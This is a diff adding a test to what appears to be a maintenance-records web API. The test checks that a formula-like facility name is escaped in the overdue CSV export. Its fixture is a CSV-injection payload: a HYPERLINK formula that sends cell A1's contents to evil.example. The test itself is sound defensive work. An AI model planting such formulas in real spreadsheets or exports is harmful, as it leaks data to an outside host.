@@ -276,3 +276,19 @@ def test_overdue_on_a_past_day_ignores_later_checks_and_comes_as_csv(client_for,
         (str(i["facility_id"]), i["item_code"]) for i in page["items"]
     ]
     assert page["next_cursor"] and page["next_cursor"] in response.headers["link"]
+
+
+def test_a_name_like_a_formula_comes_as_text_in_the_overdue_csv(client_for, create):
+    name = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
+    facility = create(name=name)
+    admin = client_for("admin")
+    params = {"on": f"{date.today().year + 3}-01-01", "admin_code": "340104", "limit": 1000}
+    rows = list(
+        csv.DictReader(
+            io.StringIO(admin.get("/v1/maintenance/overdue", params={**params, "f": "csv"}).text)
+        )
+    )
+    names = {r["name"] for r in rows if r["facility_id"] == str(facility["id"])}
+    assert names == {"'" + name}
+    page = admin.get("/v1/maintenance/overdue", params=params).json()  # JSON as it is
+    assert {i["name"] for i in page["items"] if i["facility_id"] == facility["id"]} == {name}
